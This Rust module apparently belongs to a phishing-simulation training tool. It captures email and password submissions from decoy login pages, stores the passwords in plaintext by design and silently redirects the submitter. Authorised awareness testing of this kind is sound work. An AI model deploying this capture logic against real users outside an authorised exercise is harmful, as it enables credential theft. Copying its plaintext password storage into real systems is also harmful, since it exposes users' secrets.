//! Credential capture: recording submissions from decoy login pages.
//!
//! Passwords are stored in plaintext deliberately. This is a training
//! artefact reviewed by the operator, not an authentication system; hashing
//! would defeat the debriefing purpose.

use std::sync::Arc;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use url::Url;
use utoipa::ToSchema;
use uuid::Uuid;

use crate::domain::ports::CredentialRepository;
use crate::domain::{Error, RecipientEmail};

/// Persisted credential record; exactly one per recipient identity.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
#[serde(rename_all = "camelCase")]
pub struct CapturedCredential {
    pub id: Uuid,
    /// Recipient identity; the upsert key.
    pub email: String,
    /// Latest submitted password, plaintext by design.
    pub password: String,
    pub timestamp: DateTime<Utc>,
}

/// A submission about to be upserted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CredentialSubmission {
    pub email: RecipientEmail,
    pub password: String,
    pub timestamp: DateTime<Utc>,
}

impl CredentialSubmission {
    pub fn new(email: RecipientEmail, password: String) -> Self {
        Self {
            email,
            password,
            timestamp: Utc::now(),
        }
    }

    /// Materialise into a persisted record with fresh identity.
    pub fn into_record(self) -> CapturedCredential {
        CapturedCredential {
            id: Uuid::new_v4(),
            email: self.email.into(),
            password: self.password,
            timestamp: self.timestamp,
        }
    }
}

/// Upserts submissions and resolves the post-capture redirect.
pub struct CredentialCaptureService {
    credentials: Arc<dyn CredentialRepository>,
    landing_url: Url,
}

impl CredentialCaptureService {
    pub fn new(credentials: Arc<dyn CredentialRepository>, landing_url: Url) -> Self {
        Self {
            credentials,
            landing_url,
        }
    }

    /// Record a decoy-page submission and return the landing URL.
    ///
    /// The redirect target is the same regardless of whether the record was
    /// created or refreshed; the submitter must never learn the outcome.
    pub async fn capture(
        &self,
        email: Option<String>,
        password: Option<String>,
    ) -> Result<Url, Error> {
        let recipient = email
            .as_deref()
            .map(RecipientEmail::new)
            .transpose()
            .ok()
            .flatten();
        let password = password.filter(|p| !p.is_empty());
        let (Some(recipient), Some(password)) = (recipient, password) else {
            return Err(Error::invalid_request("Email and password required"));
        };

        let submission = CredentialSubmission::new(recipient.clone(), password);
        self.credentials
            .upsert(&submission)
            .await
            .map_err(Error::from)?;
        tracing::info!(email = %recipient, "captured credential upserted");

        Ok(self.landing_url.clone())
    }
}
